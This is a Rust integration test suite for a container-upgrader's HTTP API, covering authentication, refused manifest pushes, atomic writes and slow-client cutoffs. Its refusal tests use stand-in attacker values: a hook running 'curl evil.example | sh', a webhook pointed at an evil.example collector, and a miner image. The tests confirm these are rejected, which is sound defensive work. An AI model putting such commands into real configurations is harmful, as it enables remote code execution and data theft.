//! The agent HTTP API over a real loopback socket: authentication, every
//! refusal (each leaving the manifest byte-for-byte unchanged), atomic
//! writes that trigger a pass, and concurrent pushes. No Docker needed.

use std::path::PathBuf;
use std::sync::{Arc, RwLock};
use std::time::Duration;

use container_upgrader::api::{self, ApiConfig};
use container_upgrader::manifest::Manifest;
use container_upgrader::metrics::Metrics;
use container_upgrader::status::{SharedSnapshot, Snapshot};
use container_upgrader::trigger::Trigger;
use reqwest::StatusCode;
use serde_json::{json, Value};
use tokio::sync::{mpsc, oneshot};

const TOKEN: &str = "0123456789abcdef-test-token";

const MANIFEST: &str = "\
version: 1
policy:
  allowed_images:
    - registry.local:5000/*
targets:
  - container: web
    image: registry.local:5000/app:1
  - container: db
    image: registry.local:5000/db:1
";

/// One API server on 127.0.0.1 with its own manifest file.
struct Server {
    base: String,
    path: PathBuf,
    triggers: mpsc::Receiver<Trigger>,
    client: reqwest::Client,
    _dir: tempfile::TempDir,
    _stop: oneshot::Sender<()>,
}

impl Server {
    /// `token`: what `--token-file` held (`None`: no token file).
    async fn start(token: Option<&str>) -> Self {
        Self::start_with(token, Snapshot::default(), Arc::new(Metrics::new())).await
    }

    async fn start_with(token: Option<&str>, snapshot: Snapshot, metrics: Arc<Metrics>) -> Self {
        Self::launch(token, MANIFEST, false, snapshot, metrics).await
    }

    /// A server whose manifest file holds `manifest`; `allow_any_image` as
    /// `run --allow-any-image`.
    async fn with_file(token: Option<&str>, manifest: &str, allow_any_image: bool) -> Self {
        Self::launch(token, manifest, allow_any_image, Snapshot::default(), Arc::new(Metrics::new())).await
    }

    async fn launch(
        token: Option<&str>,
        manifest: &str,
        allow_any_image: bool,
        snapshot: Snapshot,
        metrics: Arc<Metrics>,
    ) -> Self {
        Self::launch_full(token, None, manifest, allow_any_image, snapshot, metrics).await
    }

    async fn launch_full(
        token: Option<&str>,
        read_token: Option<&str>,
        manifest: &str,
        allow_any_image: bool,
        snapshot: Snapshot,
        metrics: Arc<Metrics>,
    ) -> Self {
        let dir = tempfile::tempdir().expect("tempdir");
        let path = dir.path().join("desired-state.yaml");
        std::fs::write(&path, manifest).expect("write manifest");
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
        let addr = listener.local_addr().expect("local addr");
        let config = ApiConfig {
            listen: addr,
            token: token.map(str::to_string),
            read_token: read_token.map(str::to_string),
            manifest_path: path.clone(),
            allow_any_image,
            git_refresh: None,
        };
        let snapshot: SharedSnapshot = Arc::new(RwLock::new(snapshot));
        let (tx, triggers) = mpsc::channel(4);
        let (stop, stopped) = oneshot::channel::<()>();
        tokio::spawn(api::serve(listener, config, snapshot, tx, metrics, async move {
            let _ = stopped.await;
        }));
        // reqwest is built without a default TLS provider (see registry.rs);
        // plain HTTP needs none, but building a client does.
        let _ = rustls::crypto::ring::default_provider().install_default();
        let client = reqwest::Client::builder()
            .no_proxy()
            .timeout(Duration::from_secs(30))
            .build()
            .expect("http client");
        Self { base: format!("http://{addr}"), path, triggers, client, _dir: dir, _stop: stop }
    }

    fn file(&self) -> String {
        std::fs::read_to_string(&self.path).expect("read manifest")
    }

    fn put(&self, content_type: Option<&str>, body: impl Into<reqwest::Body>) -> reqwest::RequestBuilder {
        let mut req = self.client.put(format!("{}/v1/desired", self.base)).body(body);
        if let Some(ct) = content_type {
            req = req.header("content-type", ct);
        }
        req
    }

    fn put_authorized(&self, content_type: &str, body: impl Into<reqwest::Body>) -> reqwest::RequestBuilder {
        self.put(Some(content_type), body).bearer_auth(TOKEN)
    }

    async fn get(&self, path: &str) -> reqwest::Response {
        self.client.get(format!("{}{path}", self.base)).send().await.expect("GET")
    }

    /// Files beside the manifest other than it and its lock file (leftover
    /// temporary files).
    fn strays(&self) -> Vec<String> {
        let dir = self.path.parent().expect("dir");
        std::fs::read_dir(dir)
            .expect("ls")
            .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
            .filter(|n| n != "desired-state.yaml" && n != ".desired-state.yaml.lock")
            .collect()
    }
}

async fn send(req: reqwest::RequestBuilder) -> (StatusCode, reqwest::header::HeaderMap, Value) {
    let resp = req.send().await.expect("request");
    let (status, headers) = (resp.status(), resp.headers().clone());
    let text = resp.text().await.expect("body");
    let body = serde_json::from_str(&text).unwrap_or(Value::String(text));
    (status, headers, body)
}

fn with_image(tag_web: &str) -> String {
    MANIFEST.replace("registry.local:5000/app:1", tag_web)
}

/// The error body's `error` text.
fn error_text(body: &Value) -> &str {
    body["error"].as_str().unwrap_or_else(|| panic!("no `error` in {body}"))
}

/// A request the API must refuse.
struct Refusal {
    what: &'static str,
    /// Whether the server was given a token file.
    token_file: bool,
    /// The bearer token sent, if any.
    sent: Option<&'static str>,
    content_type: Option<&'static str>,
    body: String,
    status: StatusCode,
    /// A fragment of the `error` text.
    says: &'static str,
}

/// An authenticated request with `content_type` and `body`.
fn refusal(what: &'static str, content_type: &'static str, body: impl Into<String>) -> Refusal {
    Refusal {
        what,
        token_file: true,
        sent: Some(TOKEN),
        content_type: Some(content_type),
        body: body.into(),
        status: StatusCode::BAD_REQUEST,
        says: "",
    }
}

impl Refusal {
    fn answers(self, status: StatusCode, says: &'static str) -> Self {
        Self { status, says, ..self }
    }
}

fn refusals() -> Vec<Refusal> {
    let yaml = "application/yaml";
    let json = "application/json";
    let fine = with_image("registry.local:5000/app:2");
    let set = |image: &str| json!({"target": "web", "image": image}).to_string();
    let oversized = format!("version: 1\n#{}\n", "x".repeat(api::MAX_BODY));
    vec![
        Refusal { sent: None, ..refusal("missing token", yaml, &fine) }
            .answers(StatusCode::UNAUTHORIZED, "missing bearer token"),
        Refusal { sent: Some("not-the-token"), ..refusal("wrong token", yaml, &fine) }
            .answers(StatusCode::UNAUTHORIZED, "wrong bearer token"),
        Refusal { sent: Some(&TOKEN[..10]), ..refusal("prefix of the token", yaml, &fine) }
            .answers(StatusCode::UNAUTHORIZED, "wrong bearer token"),
        // The token is checked before the body is read or its type looked at.
        Refusal { sent: None, ..refusal("missing token, oversized body", yaml, oversized.clone()) }
            .answers(StatusCode::UNAUTHORIZED, "missing bearer token"),
        Refusal { sent: None, ..refusal("missing token, unsupported type", "image/png", &fine) }
            .answers(StatusCode::UNAUTHORIZED, "missing bearer token"),
        Refusal { token_file: false, ..refusal("no token configured", yaml, &fine) }
            .answers(StatusCode::FORBIDDEN, "--token-file"),
        Refusal { token_file: false, sent: None, ..refusal("no token configured or sent", json, set("x")) }
            .answers(StatusCode::FORBIDDEN, "--token-file"),
        refusal("image outside allowed_images", yaml, with_image("evil.example/miner:1"))
            .answers(StatusCode::FORBIDDEN, "not allowed by policy"),
        refusal(
            "policy widened",
            yaml,
            MANIFEST.replace(
                "    - registry.local:5000/*\n",
                "    - registry.local:5000/*\n    - evil.example/*\n",
            ),
        )
        .answers(StatusCode::FORBIDDEN, "may not change policy.allowed_images"),
        refusal(
            "policy removed",
            yaml,
            MANIFEST.replace("policy:\n  allowed_images:\n    - registry.local:5000/*\n", ""),
        )
        .answers(StatusCode::FORBIDDEN, "may not change policy.allowed_images"),
        refusal(
            "report.webhook redirected",
            "application/yaml",
            format!("{MANIFEST}report: {{webhook: \"http://evil.example/collect\"}}\n"),
        )
        .answers(StatusCode::FORBIDDEN, "may not change report.webhook"),
        refusal(
            "selector added",
            yaml,
            format!("{MANIFEST}  - selector: {{label: \"com.example.privileged\"}}\n    image: registry.local:5000/app:2\n"),
        )
        .answers(StatusCode::FORBIDDEN, "may not add a target"),
        refusal(
            "target retargeted to another container",
            yaml,
            MANIFEST.replace("container: db", "container: docker-socket-proxy"),
        )
        .answers(StatusCode::FORBIDDEN, "may not add a target"),
        refusal(
            "target removed",
            yaml,
            MANIFEST.replace("  - container: db\n    image: registry.local:5000/db:1\n", ""),
        )
        .answers(StatusCode::FORBIDDEN, "may not remove a target"),
        refusal(
            "image switched to track",
            yaml,
            MANIFEST.replace(
                "image: registry.local:5000/db:1",
                "track: {image: registry.local:5000/db, semver: \"^1\"}",
            ),
        )
        .answers(StatusCode::FORBIDDEN, "between `image` and `track`"),
        refusal(
            "rollback switched off",
            yaml,
            MANIFEST.replace("image: registry.local:5000/db:1", "image: registry.local:5000/db:1\n    rollback: false"),
        )
        .answers(StatusCode::FORBIDDEN, "may not change the settings"),
        refusal("drift interval changed", yaml, format!("{MANIFEST}defaults: {{drift_interval: 10s}}\n"))
            .answers(StatusCode::FORBIDDEN, "may not change the drift interval"),
        refusal("invalid YAML", yaml, "version: 1\ntargets: [\n").answers(StatusCode::BAD_REQUEST, "invalid"),
        refusal("invalid manifest", "text/yaml", MANIFEST.replace("container: db", "container: web"))
            .answers(StatusCode::BAD_REQUEST, "duplicate target"),
        refusal("empty body", "text/plain", "").answers(StatusCode::BAD_REQUEST, "empty"),
        refusal("oversized body", yaml, oversized).answers(StatusCode::PAYLOAD_TOO_LARGE, "larger than"),
        refusal("unsupported content type", "application/x-www-form-urlencoded", &fine)
            .answers(StatusCode::UNSUPPORTED_MEDIA_TYPE, "unsupported content type"),
        Refusal { content_type: None, ..refusal("no content type", yaml, &fine) }
            .answers(StatusCode::UNSUPPORTED_MEDIA_TYPE, "unsupported content type `none`"),
        refusal("malformed JSON", json, "{\"target\": \"web\",\n \"image\": }")
            .answers(StatusCode::BAD_REQUEST, "invalid JSON body"),
        refusal(
            "unknown JSON field",
            json,
            json!({"target": "web", "image": "x", "force": true}).to_string(),
        )
        .answers(StatusCode::BAD_REQUEST, "unknown field `force`"),
        refusal(
            "unknown target",
            json,
            json!({"target": "nope", "image": "registry.local:5000/app:2"}).to_string(),
        )
        .answers(StatusCode::NOT_FOUND, "nope"),
        refusal("one target outside allowed_images", json, set("evil.example/miner:1"))
            .answers(StatusCode::FORBIDDEN, "evil.example/miner"),
        refusal("one target with an invalid reference", json, set("UPPER/Case:1"))
            .answers(StatusCode::BAD_REQUEST, "invalid image reference"),
    ]
}

#[tokio::test]
async fn refusals_leave_the_manifest_unchanged_and_trigger_nothing() {
    for case in refusals() {
        let what = case.what;
        let mut server = Server::start(case.token_file.then_some(TOKEN)).await;
        let mut req = server.put(case.content_type, case.body);
        if let Some(token) = case.sent {
            req = req.bearer_auth(token);
        }
        let (status, headers, body) = send(req).await;
        assert_eq!(status, case.status, "{what}: {body}");
        assert!(error_text(&body).contains(case.says), "{what}: `{}` not in {body}", case.says);
        if status == StatusCode::UNAUTHORIZED {
            let challenge = headers.get("www-authenticate").map(|v| v.to_str().expect("ascii"));
            assert!(challenge.is_some_and(|c| c.starts_with("Bearer")), "{what}: challenge {challenge:?}");
        }
        assert_eq!(server.file(), MANIFEST, "{what}: the manifest changed");
        assert_eq!(server.strays(), Vec::<String>::new(), "{what}: a temporary file was left behind");
        assert!(server.triggers.try_recv().is_err(), "{what}: a pass was triggered");
    }
}

#[tokio::test]
async fn invalid_yaml_answers_with_line_and_column() {
    let server = Server::start(Some(TOKEN)).await;
    let body = "version: 1\ntargets:\n  - container: web\n    image: [unclosed\n";
    let (status, _, body) = send(server.put_authorized("application/yaml", body)).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    let problem = &body["problems"][0];
    assert!(problem["line"].as_u64().is_some_and(|l| l >= 4), "{body}");
    assert!(problem["column"].as_u64().is_some_and(|c| c >= 1), "{body}");
    assert!(problem["message"].as_str().is_some_and(|m| !m.is_empty()), "{body}");
    assert!(error_text(&body).contains("<request body>:"), "{body}");
}

#[tokio::test]
async fn policy_refusal_points_at_the_offending_target() {
    let server = Server::start(Some(TOKEN)).await;
    let (status, _, body) =
        send(server.put_authorized("application/yaml", with_image("evil.example/miner:1"))).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    assert_eq!(body["problems"][0]["path"], "targets[0].image", "{body}");
    assert_eq!(body["problems"][0]["line"], 7, "{body}");
    assert_eq!(body["problems"].as_array().map(Vec::len), Some(1), "{body}");
}

#[tokio::test]
async fn whole_manifest_put_writes_the_file_and_triggers_a_pass() {
    let mut server = Server::start(Some(TOKEN)).await;
    let pushed = with_image("registry.local:5000/app:2");
    let (status, _, body) =
        send(server.put_authorized("application/yaml; charset=utf-8", pushed.clone())).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body, json!({"written": server.path.display().to_string(), "targets": 2}));
    assert_eq!(server.file(), pushed, "the pushed text is written as sent");
    let m = Manifest::load(&server.path).expect("the written manifest validates");
    assert_eq!(m.targets[0].want.image().to_string(), "registry.local:5000/app:2");
    assert_eq!(server.strays(), Vec::<String>::new(), "a temporary file was left behind");
    assert_eq!(server.triggers.try_recv().ok(), Some(Trigger::Api));
}

#[tokio::test]
async fn one_target_put_rewrites_that_image_and_triggers_a_pass() {
    let mut server = Server::start(Some(TOKEN)).await;
    let set = json!({"target": "web", "image": "registry.local:5000/app:3"});
    let (status, _, body) = send(server.put_authorized("application/json", set.to_string())).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body, json!({"written": server.path.display().to_string(), "targets": 2}));
    let m = Manifest::load(&server.path).expect("the written manifest validates");
    assert_eq!(m.targets[0].want.image().to_string(), "registry.local:5000/app:3");
    assert_eq!(m.targets[1].want.image().to_string(), "registry.local:5000/db:1", "other targets kept");
    assert_eq!(server.file(), MANIFEST.replace("app:1", "app:3"), "only the image changed");
    assert_eq!(server.strays(), Vec::<String>::new(), "a temporary file was left behind");
    assert_eq!(server.triggers.try_recv().ok(), Some(Trigger::Api));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn concurrent_puts_leave_a_valid_manifest_holding_one_of_them() {
    let mut server = Server::start(Some(TOKEN)).await;
    let images: Vec<String> = (1..=20).map(|i| format!("registry.local:5000/app:{}", 100 + i)).collect();
    let requests = images.iter().enumerate().map(|(i, image)| {
        // Half push whole manifests, half set one target: both paths share the lock.
        let req = if i % 2 == 0 {
            server.put_authorized("application/yaml", with_image(image))
        } else {
            server.put_authorized("application/json", json!({"target": "web", "image": image}).to_string())
        };
        send(req)
    });
    for (status, _, body) in futures_util::future::join_all(requests).await {
        assert_eq!(status, StatusCode::OK, "{body}");
    }
    let m = Manifest::load(&server.path).expect("the manifest validates after concurrent writes");
    let web = m.targets[0].want.image().to_string();
    assert!(images.contains(&web), "{web} is none of the pushed images");
    assert_eq!(server.file(), with_image(&web), "the file is exactly one push's result");
    assert_eq!(server.strays(), Vec::<String>::new(), "a temporary file was left behind");
    assert_eq!(server.triggers.try_recv().ok(), Some(Trigger::Api), "at least one pass was triggered");
}

const READ_TOKEN: &str = "read-only-token-for-the-scraper";

#[tokio::test]
async fn reads_need_the_write_or_the_read_token_once_one_is_configured() {
    let metrics = Arc::new(Metrics::new());
    metrics.pass_done("file", Duration::from_millis(5));
    let snapshot = Snapshot {
        version: "9.9.9".into(),
        manifest: Some("/etc/desired-state.yaml".into()),
        updated_at: Some("2024-05-01T12:00:00Z".into()),
        ..Snapshot::default()
    };
    let expected = serde_json::to_value(&snapshot).expect("snapshot JSON");
    let server = Server::launch_full(Some(TOKEN), Some(READ_TOKEN), MANIFEST, false, snapshot, metrics).await;

    // Liveness needs nothing.
    let health = server.get("/healthz").await;
    assert_eq!(health.status(), StatusCode::OK);
    assert_eq!(health.text().await.expect("body"), "ok");

    for path in ["/metrics", "/v1/status"] {
        let url = format!("{}{path}", server.base);
        let (status, headers, body) = send(server.client.get(&url)).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED, "{path} without a token: {body}");
        assert!(headers.contains_key("www-authenticate"), "{path}");
        assert!(
            body.get("version").is_none() && !body.to_string().contains("9.9.9"),
            "{path} leaked: {body}"
        );
        let (status, _, _) = send(server.client.get(&url).bearer_auth("wrong-token-0123456789")).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED, "{path} with a wrong token");
        for token in [TOKEN, READ_TOKEN] {
            let (status, _, _) = send(server.client.get(&url).bearer_auth(token)).await;
            assert_eq!(status, StatusCode::OK, "{path} with {token}");
        }
    }

    let resp = server.client.get(format!("{}/metrics", server.base)).bearer_auth(READ_TOKEN).send().await;
    let resp = resp.expect("GET /metrics");
    let ct = resp.headers().get("content-type").map(|v| v.to_str().expect("ascii").to_string());
    assert!(ct.as_deref().is_some_and(|c| c.starts_with("application/openmetrics-text")), "{ct:?}");
    let text = resp.text().await.expect("body");
    for family in [
        "container_upgrader_passes_total{trigger=\"file\"} 1",
        "# TYPE container_upgrader_upgrades counter",
        "container_upgrader_rollbacks_total 0",
        "# TYPE container_upgrader_op_duration_seconds histogram",
        "container_upgrader_last_success_timestamp_seconds ",
    ] {
        assert!(text.contains(family), "`{family}` not in:\n{text}");
    }
    let (status, _, body) =
        send(server.client.get(format!("{}/v1/status", server.base)).bearer_auth(READ_TOKEN)).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body, expected);

    // The read-only token cannot write.
    let pushed = with_image("registry.local:5000/app:2");
    let (status, _, body) = send(server.put(Some("application/yaml"), pushed).bearer_auth(READ_TOKEN)).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED, "{body}");
    assert_eq!(server.file(), MANIFEST);
}

#[tokio::test]
async fn without_any_token_the_reads_stay_open() {
    let server = Server::start(None).await;
    assert_eq!(server.get("/v1/status").await.status(), StatusCode::OK);
    assert_eq!(server.get("/metrics").await.status(), StatusCode::OK);
}

#[tokio::test]
async fn a_refused_webhook_change_does_not_echo_the_files_credentials() {
    let file =
        format!("{MANIFEST}report: {{webhook: \"https://hook-user:hook-pa55@hooks.example/in?key=k3y\"}}\n");
    let server = Server::with_file(Some(TOKEN), &file, false).await;
    let (status, _, body) = send(server.put_authorized("application/yaml", MANIFEST)).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    let text = error_text(&body);
    assert!(text.contains("https://hooks.example/in"), "{text}");
    for secret in ["hook-user", "hook-pa55", "k3y"] {
        assert!(!text.contains(secret), "`{secret}` echoed: {text}");
    }
}

#[tokio::test]
async fn wrong_methods_and_paths_change_nothing() {
    let server = Server::start(Some(TOKEN)).await;
    let post = server.client.post(format!("{}/v1/desired", server.base)).bearer_auth(TOKEN).body(MANIFEST);
    assert_eq!(post.send().await.expect("POST").status(), StatusCode::METHOD_NOT_ALLOWED);
    assert_eq!(server.get("/v1/nope").await.status(), StatusCode::NOT_FOUND);
    assert_eq!(server.file(), MANIFEST);
}

#[tokio::test]
async fn a_manifest_on_disk_that_does_not_validate_is_left_for_a_person() {
    let server = Server::start(Some(TOKEN)).await;
    let broken = MANIFEST.replace("version: 1", "version: 7");
    std::fs::write(&server.path, &broken).expect("break the manifest");
    let set = json!({"target": "web", "image": "registry.local:5000/app:2"}).to_string();
    for (content_type, body) in [("application/yaml", MANIFEST.to_string()), ("application/json", set)] {
        let (status, _, body) = send(server.put_authorized(content_type, body)).await;
        assert_eq!(status, StatusCode::CONFLICT, "{content_type}: {body}");
        assert!(error_text(&body).contains("unsupported manifest version 7"), "{body}");
        assert_eq!(body["problems"][0]["line"], 1, "{body}");
        assert_eq!(server.file(), broken, "{content_type}: the file changed");
    }
}

/// The file as an operator who never set a policy leaves it.
const NO_POLICY: &str = "\
version: 1
targets:
  - container: web
    image: registry.local:5000/app:1
";

#[tokio::test]
async fn without_allowed_images_the_api_writes_nothing_unless_run_allows_any_image() {
    let set = json!({"target": "web", "image": "evil.example/miner:1"}).to_string();
    let whole = NO_POLICY.replace("registry.local:5000/app:1", "evil.example/miner:1");
    for (content_type, body) in [("application/json", set.clone()), ("application/yaml", whole.clone())] {
        let mut server = Server::with_file(Some(TOKEN), NO_POLICY, false).await;
        let (status, _, answer) = send(server.put_authorized(content_type, body)).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{content_type}: {answer}");
        assert!(error_text(&answer).contains("no policy.allowed_images"), "{answer}");
        assert!(error_text(&answer).contains("--allow-any-image"), "{answer}");
        assert_eq!(server.file(), NO_POLICY, "{content_type}: the file changed");
        assert!(server.triggers.try_recv().is_err(), "{content_type}: a pass was triggered");
    }
    // The operator said any image is fine: the same pushes are written.
    for (content_type, body, want) in
        [("application/json", set, whole.clone()), ("application/yaml", whole.clone(), whole)]
    {
        let server = Server::with_file(Some(TOKEN), NO_POLICY, true).await;
        let (status, _, answer) = send(server.put_authorized(content_type, body)).await;
        assert_eq!(status, StatusCode::OK, "{content_type}: {answer}");
        assert_eq!(server.file(), want, "{content_type}");
    }
}

#[tokio::test]
async fn a_policy_that_lets_pushes_change_targets_lets_them_add_one() {
    let file = MANIFEST.replace("policy:\n", "policy:\n  push_may_change_targets: true\n");
    let server = Server::with_file(Some(TOKEN), &file, false).await;
    let pushed =
        format!("{file}  - selector: {{label: \"app=edge\"}}\n    image: registry.local:5000/edge:1\n");
    let (status, _, answer) = send(server.put_authorized("application/yaml", pushed.clone())).await;
    assert_eq!(status, StatusCode::OK, "{answer}");
    assert_eq!(server.file(), pushed);
    // The images are still held to allowed_images.
    let outside = pushed.replace("registry.local:5000/edge:1", "evil.example/edge:1");
    let (status, _, answer) = send(server.put_authorized("application/yaml", outside)).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{answer}");
    assert_eq!(server.file(), pushed);
}

#[tokio::test]
async fn a_push_may_never_set_hooks_even_where_it_may_change_targets() {
    // A hook is a command run on the host or in a container: only the file sets them.
    let file = MANIFEST.replace("policy:\n", "policy:\n  push_may_change_targets: true\n");
    let server = Server::with_file(Some(TOKEN), &file, false).await;
    let pushed = file.replace(
        "    image: registry.local:5000/db:1\n",
        "    image: registry.local:5000/db:2\n    hooks: {pre_upgrade: {run: [sh, -c, \"curl evil.example | sh\"]}}\n",
    );
    let (status, _, body) = send(server.put_authorized("application/yaml", pushed)).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    assert_eq!(body["problems"][0]["path"], "targets[1].hooks", "{body}");
    assert!(error_text(&body).contains("a push may not set hooks"), "{body}");
    assert_eq!(server.file(), file, "the file is unchanged");
}

#[tokio::test]
async fn a_refused_scope_change_points_at_the_added_target() {
    let server = Server::start(Some(TOKEN)).await;
    let pushed =
        format!("{MANIFEST}  - selector: {{label: \"privileged\"}}\n    image: registry.local:5000/app:2\n");
    let (status, _, body) = send(server.put_authorized("application/yaml", pushed)).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    assert_eq!(body["problems"][0]["path"], "targets[2]", "{body}");
    assert_eq!(body["problems"][0]["line"], 10, "{body}");
    assert!(error_text(&body).contains("push_may_change_targets"), "{body}");
}

/// Sends `head` on a raw connection and returns what the server answered
/// within `within` (empty: it closed without answering), and how long that took.
async fn raw(base: &str, head: &str, within: Duration) -> (String, Duration) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let addr = base.trim_start_matches("http://");
    let started = std::time::Instant::now();
    let mut stream = tokio::net::TcpStream::connect(addr).await.expect("connect");
    stream.write_all(head.as_bytes()).await.expect("send");
    let mut answer = Vec::new();
    let read = tokio::time::timeout(within, stream.read_to_end(&mut answer)).await;
    assert!(read.is_ok(), "no answer and no close within {within:?}");
    (String::from_utf8_lossy(&answer).into_owned(), started.elapsed())
}

#[tokio::test]
async fn a_declared_body_over_the_limit_gets_413_without_waiting_for_it() {
    let server = Server::start(Some(TOKEN)).await;
    let head = format!(
        "PUT /v1/desired HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {TOKEN}\r\nContent-Type: application/yaml\r\nContent-Length: {}\r\n\r\n",
        api::MAX_BODY + 1
    );
    let (answer, took) = raw(&server.base, &head, Duration::from_secs(5)).await;
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    assert!(took < Duration::from_secs(2), "took {took:?}");
    assert_eq!(server.file(), MANIFEST);
}

#[tokio::test]
async fn silent_and_slow_clients_are_cut_off_and_over_the_cap_closed_at_once() {
    let server = Server::start(Some(TOKEN)).await;
    let addr = server.base.trim_start_matches("http://").to_string();
    // Fill every slot with connections that say nothing.
    let mut idle = Vec::new();
    for _ in 0..api::MAX_CONNECTIONS {
        idle.push(tokio::net::TcpStream::connect(&addr).await.expect("connect"));
    }
    tokio::time::sleep(Duration::from_millis(200)).await;
    // One more is closed at once, not queued.
    let (answer, took) =
        raw(&server.base, "GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n", Duration::from_secs(3)).await;
    assert!(answer.is_empty() || answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert!(took < Duration::from_secs(3), "over the cap it waited {took:?}");
    // The silent ones were dropped after FIRST_BYTE_TIMEOUT: the API answers again.
    let deadline = std::time::Instant::now() + api::FIRST_BYTE_TIMEOUT + Duration::from_secs(5);
    loop {
        let (answer, _) =
            raw(&server.base, "GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n", Duration::from_secs(5)).await;
        if answer.starts_with("HTTP/1.1 200") {
            assert!(answer.to_ascii_lowercase().contains("connection: close"), "no keep-alive: {answer}");
            break;
        }
        assert!(std::time::Instant::now() < deadline, "the API never answered again");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    drop(idle);
    // A client that starts a request but never finishes its headers is cut off.
    let (answer, took) = raw(
        &server.base,
        "GET /healthz HTTP/1.1\r\nHost: x\r\n",
        api::HEADER_TIMEOUT + Duration::from_secs(10),
    )
    .await;
    assert!(!answer.contains("200 OK"), "{answer}");
    assert!(took >= api::HEADER_TIMEOUT - Duration::from_secs(1), "cut off early? {took:?}");
    assert!(took <= api::HEADER_TIMEOUT + Duration::from_secs(3), "took {took:?}");
}
